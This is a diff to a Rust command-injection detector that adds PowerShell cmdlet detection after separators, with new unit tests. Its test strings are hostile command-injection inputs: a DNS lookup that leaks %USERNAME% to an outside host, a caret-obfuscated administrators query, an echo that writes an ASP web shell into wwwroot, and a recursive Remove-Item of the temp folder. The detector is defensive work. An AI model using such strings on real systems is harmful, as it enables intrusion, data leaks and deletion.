@@ -10,7 +10,7 @@
 
 use crate::cmd_deobf::deobfuscate;
 use crate::prose::is_long_or_prose;
-use crate::shell_windows_args::{redirect_to_script, verb_noun};
+use crate::shell_windows_args::{cmdlet, redirect_to_script, verb_noun};
 use crate::shell_windows_start::starts_with_command;
 use crate::{Check, Finding, Input};
 
@@ -339,9 +339,15 @@ fn command(
                 || first.starts_with(b"system.")
                 || [&b".exe"[..], b".ps1", b".bat", b".dll", b".hta", b".vbs"].iter().any(|e| first.ends_with(e))
                 || winpath(first);
-            if shaped {
-                hit("command-injection:windows-powershell", true);
+            // After a separator the cmdlet itself is the command line (`;Start-Process calc`).
+            if shaped || op == Opener::Sep {
+                hit("command-injection:windows-powershell", shaped);
             }
+        }
+        // Any other cmdlet after a separator: PowerShell's own `;`, `|` or a cmd `&` in front.
+        _ if op == Opener::Sep && cmdlet(base) => {
+            let shaped = args.iter().any(|a| switch(a) || winpath(a) || url(a) || a.starts_with(b"$"));
+            hit("command-injection:windows-powershell", shaped)
         }
         b"for" if args.iter().any(|a| matches!(*a, b"/f" | b"/l" | b"/r" | b"/d")) || first.starts_with(b"%") => {
             if contains(&t[end..], b" do ") || contains(&t[end..], b")do ") {
@@ -479,7 +485,7 @@ const KNOWN_FIRST_LEN: [u64; 26] = {
 /// `base` may be a word `command` knows (no false negative: a superset by first letter and length).
 fn known(base: &[u8]) -> bool {
     let (Some(&first), len) = (base.first(), base.len()) else { return false };
-    first.is_ascii_lowercase() && len < 64 && KNOWN_FIRST_LEN[(first - b'a') as usize] & (1 << len) != 0
+    first.is_ascii_lowercase() && len < 64 && KNOWN_FIRST_LEN[(first - b'a') as usize] & (1 << len) != 0 || cmdlet(base)
 }
 
 #[cfg(test)]
@@ -513,6 +519,9 @@ mod tests {
             "&nslookup %USERNAME%.x.oast.example",
             "& n^et localgroup administrators",
             "& e^cho ^<%eval request(\"x\")%^> > C:\\inetpub\\wwwroot\\x.asp",
+            ";Start-Process calc",
+            "| Get-ChildItem -Path C:\\ -Recurse",
+            "; Remove-Item $env:TEMP -Recurse",
         ] {
             assert_eq!(level(s), Some(1), "{s}");
         }
@@ -521,6 +530,7 @@ mod tests {
             "select the dir and type a name",
             "Tom & Jerry",
             "Start-Process is a cmdlet, explain it",
+            "Cards; Get-Well soon",
         ] {
             assert_eq!(level(s), None, "{s}");
         }
